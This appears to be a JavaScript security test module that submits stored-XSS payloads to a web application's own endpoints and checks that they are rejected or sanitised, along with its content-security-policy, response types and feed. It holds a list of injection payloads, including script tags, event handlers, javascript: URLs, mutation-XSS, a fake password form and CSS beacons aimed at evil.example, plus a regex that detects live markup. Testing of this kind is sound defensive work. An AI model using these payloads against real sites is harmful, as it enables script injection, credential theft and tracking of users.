// What is stored and shown to others: HTML in every endpoint that takes a text with markup, addresses that are scripts, and text that stays text.
import { callOf, endpointOf, exampleOf, named, placesOf, schemaOf, withValue } from '../ground/contract.mjs'

/** @import { Ground } from '../attack.mjs' */
/** @import { Input } from '../ground/contract.mjs' */

const kind = 'stored content'

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  '<base href="https://evil.example"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<img src="https://evil.example/pixel.png">',
  '<<script>script>alert(1)<</script>/script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p id="root" class="ant-modal" name="getElementById">x</p>',
]
const lives =
  /<(script|iframe|object|embed|form|input|button|style|svg|math|base|meta|link|noscript)\b|<[^>]*\son\w+\s*=|<[^>]*(href|src)\s*=\s*["']?\s*(javascript|data:text)|<img[^>]*evil\.example|position:\s*fixed|url\(|<p[^>]*\s(id|name)=/i

/** The endpoints that take a text with markup: those that add one. */
const writers = () =>
  named.filter(
    ({ endpoint }) => endpoint.idempotent && schemaOf('body', endpoint)?.properties?.['content']?.type !== undefined,
  )

/** @param {Ground} ground */
async function markup({ people, ledger }) {
  for (const { endpoint, title } of writers())
    for (const content of hostile) {
      const { title: head, ...example } = /** @type {Record<string, unknown>} */ (exampleOf(endpoint).body ?? {})
      const body = {
        ...example,
        title: `${String(head).slice(0, 20)} ${Math.random().toString(36).slice(2)}`,
        content: `<p>x</p>${content}`,
      }
      const { status, msg, data } = await people.call('admin', endpoint, { body })
      const kept = /** @type {{ content?: string } | undefined} */ (data)?.content ?? ''
      const isDead = status >= 400 ? status < 500 : kept !== '' && !lives.test(kept)
      ledger.check(
        kind,
        `${title}: ${content.slice(0, 60)}`,
        'refused, or without what acts',
        status === 200 ? kept : `${status} ${msg}`,
        isDead,
      )
    }
}

/** Addresses that people will follow: no script takes the place of one. @param {Ground} ground */
async function addresses({ people, ledger }) {
  for (const { endpoint, title } of named.filter(
    (one) => one.endpoint.effect === 'write' && one.endpoint.body && !one.endpoint.upload,
  )) {
    const schema = schemaOf('body', endpoint)
    const places = schema
      ? placesOf(schema).filter(
          ({ at, schema: { type } }) =>
            /(url|path|link|href|logo|address)$/i.test(String(at.at(-1))) && type === 'string',
        )
      : []
    for (const { at } of places)
      for (const value of [
        'javascript:alert(1)',
        'data:text/html,x',
        '//evil.example/\\x',
        'http://user:pw@evil.example',
      ]) {
        const example = exampleOf(endpoint)
        const input = /** @type {Input} */ ({ ...example, body: withValue(example.body ?? {}, at, value) })
        const { status, msg } = await people.call('admin', endpoint, input)
        ledger.check(
          kind,
          `${title}: ${at.join('.')} = ${value}`,
          'refused',
          `${status} ${msg}`,
          status >= 400 && status < 500,
        )
      }
  }
}

/** @param {Ground} ground */
async function texts({ people, wire, ledger }) {
  const name = '<img src=x onerror=alert(1)>'
  const mark = `s${Date.now().toString(36)}`
  const body = { code: mark, name, sort: 1, status: 'active' }
  const added = await people.call('system-admin', endpointOf('addPost'), { body })
  const type = String(added.headers['content-type'])
  ledger.check(
    kind,
    'markup in a name',
    'JSON, unread by browsers as a page',
    type,
    type.startsWith('application/json'),
  )
  const composed = await people.call('system-admin', endpointOf('addPost'), {
    body: { ...body, code: `${mark}n`, name: `Cafe\u0301 ${mark}` },
  })
  const kept = /** @type {{ name?: string } | undefined} */ (composed.data)?.name ?? composed.msg
  ledger.check(kind, 'a letter and its accent apart', 'stored as one', kept, kept === `Caf\u00e9 ${mark}`)
  const page = await wire.call({ method: 'GET', path: '/?x=%3Cscript%3Ealert(1)%3C/script%3E', as: '' })
  const policy = String(page.headers['content-security-policy'])
  const scripts = /script-src ([^;]*)/.exec(policy)?.[1] ?? ''
  const isStrict = scripts !== '' && !scripts.includes('unsafe') && !page.text.includes('<script>alert(1)')
  ledger.check(kind, 'the page with a script in its address', 'not shown, own scripts alone', scripts, isStrict)
  const feed = await wire.call(callOf(endpointOf('changeFeed'), exampleOf(endpointOf('changeFeed'))))
  const isXml = /xml/.test(String(feed.headers['content-type'])) && !/<script/i.test(feed.text)
  ledger.check(kind, 'the feed', 'XML without scripts', String(feed.headers['content-type']), isXml)
}

/** @param {Ground} ground */
export async function stored(ground) {
  await markup(ground)
  await addresses(ground)
  await texts(ground)
}
